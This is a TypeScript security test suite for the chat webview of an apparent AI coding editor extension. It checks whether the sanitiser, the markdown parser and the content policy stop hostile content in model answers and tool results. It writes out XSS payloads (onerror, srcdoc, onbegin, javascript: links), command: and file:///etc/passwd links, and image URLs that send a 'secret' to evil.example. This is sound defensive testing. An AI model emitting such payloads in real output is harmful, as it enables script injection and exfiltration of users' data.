/** What models and servers send to be shown: HTML, markdown, formulas, media, links. */
import { inChat, throughGate, type Harm } from '../page.ts';
import type { CallView, Item } from '../../../src/protocol/index.ts';
import type { Attack, AttackClass, Defence } from '../attack.ts';

const sanitise = 'src/webview/markdown/sanitise.ts';
const gate: Defence = {
  title: 'the gate between HTML and the page',
  file: sanitise,
  name: 'admit',
  at: 'conditional',
  as: '$consequent',
};
const attributes: Defence = {
  title: 'the list of attributes',
  file: sanitise,
  name: 'textConfig.ALLOWED_ATTR',
  as: "[...$it, 'style', 'id', 'name', 'onfocus', 'autofocus']",
};
const elements: Defence = {
  title: 'the list of elements',
  file: sanitise,
  name: 'textConfig',
  as: "{ ...$it, ALLOWED_TAGS: [...textTags, 'img', 'form', 'input'], ADD_ATTR: ['src', 'action'] }",
};
const cleanLinks: Defence = {
  title: 'the look at links of HTML that needs no cleaning',
  file: sanitise,
  name: 'isClean',
  at: '&& href',
  as: '',
};
const links: Defence = {
  title: 'the second look at links',
  file: sanitise,
  name: 'purifier',
  at: 'if href',
  as: '',
};
const addresses: Defence = {
  title: 'the look at addresses in attributes',
  file: sanitise,
  name: 'purifier',
  at: 'condition attrValue',
  as: 'false',
};
const mathGate: Defence = {
  title: 'the gate between formulas and the page',
  file: sanitise,
  name: 'sanitiseMath',
  at: 'call purifyMath',
  as: 'contentOf(parse(html))',
};
const rawHtml: Defence = {
  title: 'markdown without HTML',
  file: 'src/webview/markdown/parser.ts',
  name: 'createParser.html',
  as: 'true',
};
const imageLinks: Defence = {
  title: 'images of answers become links',
  file: 'src/webview/markdown/parser.ts',
  name: 'rewriteInline',
  at: 'case image .consequent.0',
  as: 'if (open !== token) break; $it',
};
const openLinks: Defence = {
  title: 'links of answers that lead elsewhere become text',
  file: 'src/webview/markdown/parser.ts',
  name: 'rewriteInline',
  at: 'call isOpenable href',
  as: 'true',
};
const policyImages: Defence = {
  title: 'the policy of the page for images',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element img',
  as: '`img-src *`',
};
const policyScripts: Defence = {
  title: 'the policy of the page for scripts',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element nonce',
  as: "`script-src 'self' 'unsafe-inline'`",
};
const policyStyles: Defence = {
  title: 'the policy of the page for styles',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element style',
  as: "`style-src * 'unsafe-inline'`",
};
const policyRest: Defence = {
  title: 'the policy of the page for everything else',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element default',
  as: "`default-src * 'unsafe-inline'`",
};
const policyForms: Defence = {
  title: 'the policy of the page for forms',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element form',
  as: '`form-action *`',
};
const policyBase: Defence = {
  title: 'the policy of the page for its base address',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element base',
  as: '`base-uri *`',
};
const policyWorkers: Defence = {
  title: 'the policy of the page for workers',
  file: 'src/editor/common/pageDocument.ts',
  name: 'pageDocument',
  at: 'element worker',
  as: '`worker-src data:`',
};
const mediaTypes: Defence = {
  title: 'the types of media that are shown',
  file: 'src/webview/calls/parts.ts',
  name: 'mediaUri',
  at: '&& data',
  as: '`data:${mimeType};base64,${data}`',
};
const escaped: Defence = {
  title: 'the escaping of texts of tools',
  file: 'src/webview/calls/terminalDom.ts',
  name: 'shown',
  at: 'call escapeHtml',
  as: '$1',
};
const formulaTrust: Defence = {
  title: 'formulas without links and images',
  file: 'src/webview/markdown/mathEntry.ts',
  name: 'options.trust',
  as: 'true',
};
const clicks: Defence = {
  title: 'a link never navigates',
  file: 'src/webview/chat/contentEvents.ts',
  name: 'handleContentClick',
  at: 'statement preventDefault',
  as: '',
};
const linkCards: Defence = {
  title: 'the look at links of tools',
  file: 'src/webview/calls/ResultPart.tsx',
  name: 'LinkCard',
  at: 'condition uri',
  as: 'true',
};

const E = 'https://evil.example';

/** An attack with HTML that a parser or a highlighter let through. */
const html = (
  title: string,
  defences: Attack['defences'],
  content: string,
  isHarmed: (harm: Harm) => boolean,
  look: Parameters<typeof throughGate>[1] = {},
): Attack => ({
  title,
  defences,
  browser: true,
  succeeds: async () => isHarmed(await throughGate(content, look)),
});

const asks = ({ requests }: Harm): boolean => requests.length > 0;
const runs = ({ scripts }: Harm): boolean => scripts > 0;
const sees = ({ seen }: Harm): boolean => seen === true;

const said = (text: string): Item => ({ kind: 'assistant', id: 'a', text, streaming: false });
const called = (more: Partial<CallView>): Item => ({
  kind: 'call',
  id: 'c',
  step: 1,
  call: {
    source: { kind: 'mcp', server: 's' },
    toolName: 't',
    wireName: 'w',
    argsText: '{}',
    status: 'success',
    startedAt: 0,
    durationMs: 1,
    ...more,
  },
});
/** Resolves once a formula is drawn, for which its code is loaded. */
const drawnFormula = `new Promise((resolve) => {
  const look = () => (document.querySelector('.math.drawn') ? resolve() : setTimeout(look, 20));
  look();
})`;
const openCall = { click: '.call summary, .call-head, .call button' };

export const attacks: AttackClass = {
  title: 'What is shown on the pages',
  attacks: [
    html('HTML carries an image that tells a stranger it was read', [gate], `<img src="${E}/read">`, asks),
    html(
      'HTML carries an image whose error runs a script',
      [gate],
      `<img src="${E}/x" onerror="harm()">`,
      runs,
    ),
    html(
      'HTML carries a frame with a document of its own that runs a script',
      [gate],
      '<iframe srcdoc="<script>parent.harm()</script>"></iframe>',
      runs,
    ),
    html(
      'HTML carries an animated drawing whose start runs a script',
      [gate],
      '<svg><animate attributeName="x" dur="1s" begin="0s" onbegin="harm()"/></svg>',
      runs,
    ),
    html(
      'HTML carries an object that is loaded from outside',
      [gate],
      `<object data="${E}/o"></object>`,
      asks,
    ),
    html(
      'HTML carries a video that is loaded from outside',
      [gate],
      `<video src="${E}/v" autoplay muted></video>`,
      asks,
    ),
    html(
      'HTML carries styles that load something from outside',
      [gate],
      `<style>body { background: url(${E}/s) }</style>`,
      asks,
    ),
    html('HTML carries a link to a style sheet', [gate], `<link rel="stylesheet" href="${E}/c.css">`, asks),
    html(
      'HTML carries a refresh that leads the page elsewhere',
      [gate],
      `<meta http-equiv="refresh" content="0;url=${E}/r">`,
      asks,
    ),
    html(
      'HTML carries a base by which every relative address of the page leads to a stranger',
      [gate],
      `<base href="${E}/">`,
      sees,
      { see: `document.baseURI.startsWith('${E}')` },
    ),
    html(
      'HTML carries a form that sends what is typed into it to a stranger',
      [elements],
      `<form action="${E}/f"><input name="q" value="typed"><button>Continue</button></form>`,
      asks,
      { click: 'button' },
    ),
    html(
      'HTML within something else that has to be cleaned carries an image',
      [elements],
      `<p data-x="1">a</p><img src="${E}/read">`,
      asks,
    ),
    html(
      'HTML covers the whole page with a style attribute',
      [attributes],
      '<p style="position:fixed;inset:0">Allow</p>',
      sees,
      { see: `getComputedStyle(document.querySelector('main p')).position === 'fixed'` },
    ),
    html(
      'HTML loads something from outside by a style attribute',
      [attributes, addresses],
      `<p style="background:url(${E}/b)">a</p>`,
      asks,
    ),
    html(
      'HTML gets the focus and runs a script with it',
      [gate],
      '<p tabindex="0" autofocus onfocus="harm()">a</p>',
      runs,
    ),
    html(
      'HTML takes the id of a part of the page, so that scripts find it instead',
      [attributes],
      '<p id="patchbay-chat">a</p>',
      sees,
      { see: `document.getElementById('patchbay-chat') !== null` },
    ),
    html(
      'HTML links to a command of the editor',
      [cleanLinks],
      '<a href="command:workbench.action.terminal.sendSequence">Open</a>',
      ({ html: made }) => made.includes('command:'),
    ),
    html('HTML links to a script', [cleanLinks], '<a href="javascript:harm()">Open</a>', runs, {
      click: 'main a',
    }),
    html(
      'HTML links to another program by its scheme, beside something that has to be cleaned',
      [cleanLinks, links],
      '<a href="tel:1">Call</a><u>x</u>',
      ({ html: made }) => made.includes('tel:'),
    ),
    {
      title: 'A formula carries an image',
      defences: [mathGate],
      browser: true,
      succeeds: async () =>
        asks(await throughGate(`<math><mi>x</mi></math><img src="${E}/i">`, {}, 'sanitiseMath')),
    },
    {
      title: 'A formula’s part is a link to a script',
      defences: [mathGate],
      browser: true,
      succeeds: async () =>
        (
          await throughGate(
            '<math><mrow href="javascript:harm()"><mi>x</mi></mrow></math>',
            {},
            'sanitiseMath',
          )
        ).html.includes('javascript:'),
    },
    {
      title: 'A formula of an answer links to a command of the editor',
      defences: [formulaTrust, mathGate],
      browser: true,
      succeeds: async () => {
        const formula = said('$$\\href{command:workbench.action.quit}{x}$$');
        return (await inChat([formula], { see: drawnFormula })).html.includes('"command:');
      },
    },
    {
      title: 'An answer carries what was read to a stranger in the address of an image',
      defences: [imageLinks, gate, policyImages],
      browser: true,
      succeeds: async () => asks(await inChat([said(`![logo](${E}/i.png?secret=4711)`)])),
    },
    {
      title: 'An answer carries what was read to a stranger in an image by reference',
      defences: [imageLinks, gate, policyImages],
      browser: true,
      succeeds: async () => asks(await inChat([said(`![logo][x]\n\n[x]: ${E}/i.png?secret=4711`)])),
    },
    {
      title: 'An answer’s HTML carries what was read to a stranger in an image',
      defences: [rawHtml, gate, policyImages],
      browser: true,
      succeeds: async () => asks(await inChat([said(`Look: <img src="${E}/i.png?secret=4711">`)])),
    },
    {
      title: 'An answer’s HTML runs a script under the policy of the page',
      defences: [rawHtml, gate, policyScripts],
      browser: true,
      succeeds: async () => runs(await inChat([said('<img src="x:" onerror="harm()">')])),
    },
    {
      title: 'An answer’s HTML changes the styles of the page',
      defences: [rawHtml, gate, policyStyles],
      browser: true,
      succeeds: async () =>
        sees(
          await inChat([said('<p><style>.message, p { color: rgb(1, 2, 3) !important }</style>a</p>')], {
            see: `[...document.querySelectorAll('p')].some((p) => getComputedStyle(p).color === 'rgb(1, 2, 3)')`,
          }),
        ),
    },
    {
      title: 'An answer’s HTML shows a page of a stranger in a frame',
      defences: [rawHtml, gate, policyRest],
      browser: true,
      succeeds: async () => asks(await inChat([said(`<iframe src="${E}/frame"></iframe>`)])),
    },
    {
      title: 'An answer’s HTML has a form that sends to a stranger',
      defences: [rawHtml, gate, policyForms],
      browser: true,
      succeeds: async () =>
        asks(
          await inChat([said(`<form action="${E}/form"><button>OK</button></form>`)], {
            click: 'form button',
          }),
        ),
    },
    {
      title: 'An answer’s HTML has the page’s own addresses lead to a stranger',
      defences: [rawHtml, gate, policyBase],
      browser: true,
      succeeds: async () =>
        sees(await inChat([said(`<base href="${E}/">`)], { see: `document.baseURI.startsWith('${E}')` })),
    },
    {
      title: 'A script starts a worker from another address than one that the page made itself',
      defences: [policyWorkers],
      browser: true,
      succeeds: async () =>
        sees(
          await inChat([], {
            see: `new Promise((resolve) => {
              addEventListener('securitypolicyviolation', () => resolve(false));
              const worker = new Worker('data:text/javascript,postMessage(1)');
              worker.onmessage = () => resolve(true);
              worker.onerror = () => resolve(false);
            })`,
          }),
        ),
    },
    {
      title: 'An answer links to a command of the editor',
      defences: [openLinks, cleanLinks, links],
      browser: true,
      succeeds: async () =>
        (await inChat([said('[Fix it](command:workbench.action.reloadWindow)')])).html.includes(
          'href="command:',
        ),
    },
    {
      title: 'An answer links to a file of the machine outside of the workspace',
      defences: [openLinks, cleanLinks, links],
      browser: true,
      succeeds: async () => (await inChat([said('[Log](file:///etc/passwd)')])).html.includes('href="file:'),
    },
    {
      title: 'An answer’s link navigates the page itself when it is clicked',
      defences: [clicks],
      browser: true,
      succeeds: async () => asks(await inChat([said(`[docs](${E}/go)`)], { click: '.markdown a' })),
    },
    {
      title: 'A tool’s text is HTML with an image',
      defences: [escaped, gate, policyImages],
      browser: true,
      succeeds: async () =>
        asks(await inChat([called({ result: [{ type: 'text', text: `<img src="${E}/t">` }] })], openCall)),
    },
    {
      title: 'A tool’s image is of a type that can hold scripts and addresses',
      defences: [mediaTypes],
      browser: true,
      succeeds: async () =>
        (
          await inChat(
            [
              called({
                result: [
                  {
                    type: 'image',
                    mimeType: 'image/svg+xml',
                    data: Buffer.from('<svg/>').toString('base64'),
                  },
                ],
              }),
            ],
            openCall,
          )
        ).html.includes('data:image/svg'),
    },
    {
      title: 'A tool’s link leads to a command of the editor',
      defences: [linkCards],
      browser: true,
      succeeds: async () =>
        (
          await inChat(
            [called({ result: [{ type: 'link', uri: 'command:workbench.action.quit', name: 'Report' }] })],
            openCall,
          )
        ).html.includes('href="command:'),
    },
  ],
};
